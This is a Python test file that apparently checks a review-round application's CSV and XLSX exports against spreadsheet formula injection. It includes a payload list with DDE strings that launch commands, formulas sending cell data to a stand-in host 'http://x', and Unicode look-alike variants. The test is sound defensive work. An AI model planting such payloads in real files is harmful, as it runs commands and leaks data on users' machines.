"""A15: texts that a spreadsheet would run, in every field of a whole round."""

import csv
import io
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import openpyxl

from reviewer_app.core.round import RoundPlan
from reviewer_app.core.votes import CastVote, Choice, Vote
from reviewer_app.papers.escape import ACTIVE
from reviewer_app.services import closing, deliberating
from reviewer_app.services.dossier import make_dossier
from reviewer_app.services.findings import statistics_json
from reviewer_app.services.records import OpinionRecord
from reviewer_app.services.results import marks_csv, results_of
from reviewer_app.sheets.score_sheet import Remark
from tests.faults import altering
from tests.faults.conftest import Trials
from tests.services.day import NOON, Day, app, plan

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x","y")',
    '=IMPORTXML(CONCAT("http://x",A1),"//a")', '=DDE("cmd","/C calc","x")', " =1+1",
    "　=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "=\u202e1+1",
    "-2+3+cmd|' /C calc'!D2", "=A1", "{=1+1}", '=WEBSERVICE("http://x")', "@=1+1", "==1", "=-1",
    "'=1+1",
]  # fmt: skip


def seen(place: int, at: int) -> str:
    """Return a payload for a name: invisible or look-alike names would not be issued."""
    return PAYLOADS[(place + at) % 14] + "甲乙丙丁"[at]


def poisoned(small: RoundPlan, shift: int) -> RoundPlan:
    """Return the plan with another payload in every text a person could have typed."""

    def bad(place: int) -> str:
        return PAYLOADS[(shift + place) % len(PAYLOADS)]

    return replace(
        small,
        title=bad(0),
        organiser=bad(1),
        place=bad(2),
        weights_confirmed_by=bad(3),
        applications=tuple(
            replace(
                each,
                name=seen(shift + 4, at),
                short_name=seen(shift + 7, at),
                unit=seen(shift + 10, at),
            )
            for at, each in enumerate(small.applications)
        ),
        experts=tuple(
            replace(each, name=seen(shift, at), employer=seen(shift + 5, at))
            for at, each in enumerate(small.experts)
        ),
    )


def whole_round(folder: Path, shift: int) -> tuple[Day, dict[str, bytes]]:
    """Return every table that a round exports, by name."""
    folder.mkdir()
    day = Day.start(folder, poisoned(plan(experts=3), shift))
    day.issue()
    remark = Remark(PAYLOADS[shift], PAYLOADS[-1 - shift], ())
    paths = []
    for laptop in day.laptops.values():
        content = laptop.content({1: 80, 2: 70, 3: 60})
        paths.append(laptop.sign(folder, content, {app(1): {"6.1": remark}}))
    day.collect(*paths)
    bureau, bad = day.context.open_bureau, PAYLOADS[shift]
    closing.close_round(bureau, day.round_id, NOON, bad)
    vote = CastVote("01", "01", Vote(Choice.REJECT, bad))
    deliberating.record_votes(bureau, day.round_id, [vote], NOON)
    opinion = OpinionRecord(day.round_id, app(1), bad, bad, bad, bad)
    deliberating.record_opinion(bureau, opinion, NOON)
    found = results_of(bureau, day.round_id)
    tables = make_dossier(bureau, day.round_id, NOON)
    tables["marks.csv"], tables["slips.csv"] = (
        marks_csv(found),
        (folder / "slips.csv").read_bytes(),
    )
    assert statistics_json(found)
    return day, tables


def test_no_text_becomes_a_formula(tmp_path: Path, trials: Trials) -> None:
    rounds, cells = trials.count(len(PAYLOADS), 1), 0
    for shift in range(rounds):
        day, tables = whole_round(tmp_path / f"{shift}", shift)
        save(tables, tmp_path / "tables", shift)
        for name, data in tables.items():
            if name.endswith(".xlsx"):
                cells += check_workbook(data)
            elif name.endswith(".csv"):
                cells += check_csv(data)
        altering.close(day)
    assert cells > 100 * rounds
    trials.survived("A15 rounds", rounds)
    trials.survived("A15 cells", cells)
    if trials.full and (office := shutil.which("soffice")):
        trials.survived("A15 cells in LibreOffice", reopened(office, tmp_path))


def save(tables: dict[str, bytes], folder: Path, shift: int) -> None:
    """Write every table where LibreOffice will open it."""
    folder.mkdir(exist_ok=True)
    for number, (name, data) in enumerate(tables.items()):
        if name.endswith((".xlsx", ".csv")):
            (folder / f"{shift}-{number}{Path(name).suffix}").write_bytes(data)


def reopened(office: str, folder: Path) -> int:
    """Let LibreOffice open and save every table; what was text is the same text again."""
    profile, out, seen = folder / "profile", folder / "out", 0
    for suffix in (".xlsx", ".csv"):
        files = sorted((folder / "tables").glob(f"*{suffix}"))
        command = [office, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
        command += ["--convert-to", "xlsx", "--outdir", str(out), *map(str, files)]
        subprocess.run(command, check=True, capture_output=True, timeout=600)
        for file in files:
            before = texts(file) if suffix == ".xlsx" else {}
            after = openpyxl.load_workbook(out / f"{file.stem}.xlsx")
            for sheet in after:
                for cell in (cell for row in sheet.iter_rows() for cell in row):
                    place = sheet.title, cell.coordinate
                    if suffix == ".csv":
                        assert cell.data_type != "f", (file.name, *place, cell.value)
                        seen += cell.value is not None
                    elif place in before:
                        assert (cell.data_type, cell.value) == ("s", before.pop(place))
                        seen += 1
            assert not before, file.name
    return seen


def texts(file: Path) -> dict[tuple[str, str], str]:
    """Return every text of a workbook by sheet and cell."""
    return {
        (sheet.title, cell.coordinate): str(cell.value)
        for sheet in openpyxl.load_workbook(file)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None and cell.data_type in ("s", "inlineStr")
    }


def check_workbook(data: bytes) -> int:
    """See that every formula is the program's own and every text is only text."""
    seen = 0
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for cell in (
            cell for row in sheet.iter_rows() for cell in row if cell.value is not None
        ):
            seen += 1
            text = str(cell.value)
            if cell.data_type == "f":
                assert not [bad for bad in PAYLOADS if bad in text], (cell.coordinate, text)
            elif cell.data_type in ("s", "inlineStr"):
                assert text[0] not in ACTIVE, (sheet.title, cell.coordinate, text)
    return seen


def check_csv(data: bytes) -> int:
    """See that no field begins as a formula does, white space and marks left aside."""
    seen = 0
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for field in row:
            seen += 1
            assert not field or field[0] not in ACTIVE, field
    return seen
